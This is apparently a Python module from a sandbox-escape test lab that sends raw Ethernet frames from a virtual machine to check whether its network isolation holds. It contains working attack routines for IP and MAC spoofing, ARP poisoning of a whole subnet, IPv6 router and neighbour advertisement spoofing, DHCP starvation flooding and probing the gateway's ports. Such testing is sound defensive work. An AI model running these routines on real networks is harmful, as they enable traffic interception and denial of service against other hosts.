"""What root in a virtual machine can do with its network card: any frame at all."""

from __future__ import annotations

import contextlib
import os
import socket
import struct
import time

from netns.escapes.programs.packets import sum16
from netns.escapes.task import Task

_DEVICE = os.environ.get("LAB_DEVICE", "eth0")
_IPV4, _ARP, _IPV6, _VLAN = 0x0800, 0x0806, 0x86DD, 0x8100
_ALL_NODES = bytes.fromhex("ff02" + "00" * 13 + "01")


def _octets(mac: str) -> bytes:
    return bytes.fromhex(mac.replace(":", ""))


def _own_mac() -> bytes:
    with open(f"/sys/class/net/{_DEVICE}/address") as file:
        return _octets(file.read().strip())


def _gateway_mac(task: Task) -> bytes:
    """As the kernel has learnt it."""
    gateway = task.world["gateway4"]
    for _ in range(20):
        with open("/proc/net/arp") as file:
            for line in file:
                words = line.split()
                if words[0] == gateway and words[3] != "00:00:00:00:00:00":
                    return _octets(words[3])
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as end, contextlib.suppress(OSError):
            end.sendto(b"?", (gateway, 9))
        time.sleep(0.1)
    raise OSError("the gateway's hardware address is not known")


def _send(*frames: bytes) -> str:
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
        wire.bind((_DEVICE, 0))
        for each in frames:
            for _ in range(50):
                try:
                    wire.send(each)
                    break
                except OSError:  # ENOBUFS: the card is busy
                    time.sleep(0.01)
    return f"{len(frames)} frames sent"


def _frame(to: bytes, source: bytes, kind: int, packet: bytes) -> bytes:
    return to + source + struct.pack("!H", kind) + packet


def _udp4(source: str, target: str, port: int, data: bytes) -> bytes:
    length = 8 + len(data)
    ends = socket.inet_aton(source) + socket.inet_aton(target)
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + length, 7, 0, 64, 17, 0)
    head = head + struct.pack("!H", 0)[:0] + ends
    head = head[:10] + struct.pack("!H", sum16(head)) + head[12:]
    return head + struct.pack("!HHHH", 4000, port, length, 0) + data


def _in_ipv6(source: str, target: bytes, header: int, packet: bytes) -> bytes:
    from_address = socket.inet_pton(socket.AF_INET6, source)
    ends = from_address + target
    pseudo = ends + struct.pack("!IHBB", len(packet), 0, 0, header)
    at = 6 if header == 17 else 2
    checksum = struct.pack("!H", sum16(pseudo + packet) or 0xFFFF)
    packet = packet[:at] + checksum + packet[at + 2 :]
    return struct.pack("!IHBB", 0x60000000, len(packet), header, 255) + ends + packet


def spoofed(task: Task) -> str:
    """A datagram under another hardware or IPv4 address than one's own."""
    mac = _octets(task.args["mac"]) if "mac" in task.args else _own_mac()
    source = task.args.get("source", task.world["own4"])
    packet = _udp4(source, task.world["public4"], 4444, task.nonce)
    return _send(_frame(_gateway_mac(task), mac, _IPV4, packet))


def spoofed_six(task: Task) -> str:
    """A datagram under another IPv6 address than one's own."""
    target = socket.inet_pton(socket.AF_INET6, task.world["public6"])
    datagram = struct.pack("!HHHH", 4000, 4444, 8 + len(task.nonce), 0) + task.nonce
    packet = _in_ipv6(task.args["source"], target, 17, datagram)
    return _send(_frame(_gateway_mac(task), _own_mac(), _IPV6, packet))


def fragments(task: Task) -> str:
    """A datagram in two IPv4 fragments, the nonce in the second."""
    whole = _udp4(task.world["own4"], task.world["public4"], 4444, bytes(16) + task.nonce)
    frames = []
    for offset, data, more in ((0, whole[20:44], 0x2000), (3, whole[44:], 0)):
        head = whole[:2] + struct.pack("!HHHBBH", 20 + len(data), 77, more | offset, 64, 17, 0)
        head += whole[12:20]
        head = head[:10] + struct.pack("!H", sum16(head)) + head[12:]
        frames.append(_frame(_gateway_mac(task), _own_mac(), _IPV4, head + data))
    return _send(*frames)


def extended(task: Task) -> str:
    """A datagram behind IPv6 extension headers: hop-by-hop, destination options, a fragment."""
    source = socket.inet_pton(socket.AF_INET6, task.world["own6"])
    ends = source + socket.inet_pton(socket.AF_INET6, task.world["public6"])
    datagram = struct.pack("!HHHH", 4000, 4444, 8 + len(task.nonce), 0) + task.nonce
    pseudo = ends + struct.pack("!IHBB", len(datagram), 0, 0, 17)
    datagram = datagram[:6] + struct.pack("!H", sum16(pseudo + datagram)) + datagram[8:]
    padding = b"\1\4\0\0\0\0"  # PadN, RFC 8200 section 4.2
    packet = bytes((60, 0)) + padding + bytes((44, 0)) + padding
    packet += struct.pack("!BBHI", 17, 0, 0, 4711) + datagram
    head = struct.pack("!IHBB", 0x60000000, len(packet), 0, 64) + ends
    return _send(_frame(_gateway_mac(task), _own_mac(), _IPV6, head + packet))


def tagged(task: Task) -> str:
    """A datagram in a frame of a virtual LAN (IEEE 802.1Q)."""
    packet = struct.pack("!HH", 7, _IPV4)
    packet += _udp4(task.world["own4"], task.world["public4"], 4444, task.nonce)
    return _send(_frame(_gateway_mac(task), _own_mac(), _VLAN, packet))


def broadcast_frame(task: Task) -> str:
    """A datagram to somewhere in a frame to everybody."""
    packet = _udp4(task.world["own4"], task.world["public4"], 4444, task.nonce)
    return _send(_frame(b"\xff" * 6, _own_mac(), _IPV4, packet))


def poison(task: Task) -> str:
    """ARP that claims every address of the network for another card, the gateway's included."""
    stranger = _octets("02:00:00:00:00:66")
    frames = []
    for number in range(1, 255):
        address = socket.inet_aton(f"198.18.0.{number}")
        for operation in (1, 2):
            head = struct.pack("!HHBBH", 1, _IPV4, 6, 4, operation)
            body = head + stranger + address + b"\0" * 6 + address
            frames.append(_frame(b"\xff" * 6, _own_mac(), _ARP, body))
    return _send(*frames)


def advertise(task: Task) -> str:
    """Neighbour discovery that makes this machine router, gateway, and everybody's neighbour."""
    own = _own_mac()
    router = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + b"\1\1" + own
    frames = []
    for source in ("fe80::1", "fe80::66"):
        frames.append(_in_ipv6(source, _ALL_NODES, 58, router))
    for number in range(600):
        target = socket.inet_pton(socket.AF_INET6, f"fd65:6772:6573:7301::{number:x}")
        text = socket.inet_ntop(socket.AF_INET6, target)
        neighbour = struct.pack("!BBHI", 136, 0, 0, 0xA0000000) + target + b"\2\1" + own
        frames.append(_in_ipv6(text, _ALL_NODES, 58, neighbour))
        gateway = socket.inet_pton(socket.AF_INET6, "fe80::1")
        asked = struct.pack("!BBHI", 135, 0, 0, 0) + gateway + b"\1\1" + own
        frames.append(_in_ipv6(text, gateway, 58, asked))
    to = b"\x33\x33\0\0\0\1"
    return _send(*(_frame(to, own, _IPV6, each) for each in frames))


def dhcp_flood(task: Task) -> str:
    """Ask for an address as a thousand clients."""
    frames = []
    for _ in range(1000):
        card = b"\x02" + os.urandom(5)
        message = struct.pack("!4BI2H", 1, 1, 6, 0, int.from_bytes(os.urandom(4), "big"), 0, 0)
        message += bytes(16) + card + bytes(10 + 192) + b"\x63\x82\x53\x63\x35\1\1\xff"
        packet = _udp4("0.0.0.0", "255.255.255.255", 67, message)
        packet = packet[:20] + struct.pack("!HHHH", 68, 67, 8 + len(message), 0) + message
        frames.append(_frame(b"\xff" * 6, _own_mac(), _IPV4, packet))
    return _send(*frames)


def listeners(task: Task) -> str:
    """Dial what the gateway listens with, by its own addresses."""
    saw = []
    for address in (task.world["gateway4"], task.world["gateway6"]):
        family = socket.AF_INET6 if ":" in address else socket.AF_INET
        for port in task.args["ports"]:
            with socket.socket(family, socket.SOCK_STREAM) as end:
                end.settimeout(2)
                try:
                    end.connect((address, port))
                    end.sendall(b"GET / HTTP/1.0\r\n\r\n")
                    answer = end.recv(100).partition(b"\r\n")[0].decode()
                    saw.append(answer)
                    if not answer.startswith("HTTP/1.1 4"):  # it is a connection as any other
                        task.gain("more than a refusal")
                except OSError as error:
                    saw.append(type(error).__name__)
    return ", ".join(saw)
